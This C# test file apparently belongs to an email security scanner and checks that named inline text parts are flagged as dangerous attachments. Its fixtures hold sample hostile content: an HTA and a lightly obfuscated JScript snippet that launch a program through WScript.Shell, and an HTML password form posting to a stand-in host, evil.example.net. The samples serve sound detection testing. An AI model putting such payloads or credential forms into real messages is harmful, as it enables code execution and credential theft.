using System.Text;
using SentiMail.Tests.TestSupport;

namespace SentiMail.Tests.Context;

/// <summary>A text part with a file name is offered as that file: it goes through the attachment checks, and stays body
/// text as clients show it inline.</summary>
public class NamedTextPartTests
{
    private static readonly byte[] s_hta = Encoding.ASCII.GetBytes("<html><head><hta:application id=\"x\"></head><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script></html>");
    private static readonly byte[] s_js = Encoding.ASCII.GetBytes("var s=new ActiveXObject('WScr'+'ipt.Shell');s.Run('calc');\r\n");
    private static readonly byte[] s_phish = Encoding.ASCII.GetBytes("<html><body><form action='https://evil.example.net/p' method='post'>Email <input name=u> Password <input type=password name=p></form></body></html>");

    [Theory]
    [InlineData("text/plain; name=\"invoice.hta\"", "inline; filename=\"invoice.hta\"", "hta", "attachment.executable")]
    [InlineData("text/plain; name=\"invoice.js\"", null, "js", "attachment.dangerous-extension")]
    [InlineData("text/plain", "inline; filename=\"invoice.js\"", "js", "attachment.dangerous-extension")]
    [InlineData("text/plain; name=\"invoice.html\"", "inline; filename=\"invoice.html\"", "phish", "attachment.html-credential-form")]
    [InlineData("text/html; name=\"invoice.html\"", null, "phish", "attachment.html-credential-form")]
    public async Task AnalyzeAsync_NamedInlineTextPart_IsCheckedAsAnAttachment(string contentType, string? disposition, string content, string signal)
    {
        var report = await TestEngines.Create().AnalyzeAsync(Message(contentType, disposition, Content(content)));

        Assert.Contains(report.Signals, s => s.Id == signal);
        Assert.NotEqual("Clean", report.Verdict.ToString());
    }

    [Theory]
    [InlineData("hta")]
    [InlineData("js")]
    public async Task AnalyzeAsync_SameTextWithoutAName_IsBodyTextOnly(string content)
    {
        // The benign twin: the same bytes as an unnamed inline text part are shown as text, never run.
        var report = await TestEngines.Create().AnalyzeAsync(Message("text/plain", null, Content(content)));

        Assert.Empty(report.Signals.Where(s => s.Category == SentiMail.Signals.SignalCategory.Attachments).Select(s => s.Id));
    }

    [Fact]
    public void Build_NamedInlineTextPart_IsBodyTextAndAnAttachment()
    {
        var context = TestEngines.Context(Message("text/plain; name=\"notes.txt\"", "inline", Encoding.ASCII.GetBytes("Minutes of the meeting.\r\n")));

        Assert.Contains("Minutes of the meeting.", context.TextBody, StringComparison.Ordinal);
        var attachment = Assert.Single(context.Attachments);
        Assert.Equal("notes.txt", attachment.FileName);
        Assert.True(attachment.IsInline);
    }

    [Fact]
    public async Task AnalyzeAsync_NamedHarmlessTextPart_RaisesNothing()
    {
        var report = await TestEngines.Create().AnalyzeAsync(Message("text/plain; name=\"notes.txt\"", "inline", Encoding.ASCII.GetBytes("Minutes of the meeting.\r\n")));

        Assert.Empty(report.Signals.Where(s => s.Category == SentiMail.Signals.SignalCategory.Attachments).Select(s => s.Id));
    }

    private static byte[] Content(string name) => name switch
    {
        "hta" => s_hta,
        "js" => s_js,
        _ => s_phish,
    };

    private static byte[] Message(string contentType, string? disposition, byte[] content) =>
        RawMime.Message(RawMime.Part("Content-Type: " + contentType + (disposition is null ? string.Empty : "\r\nContent-Disposition: " + disposition), content));
}
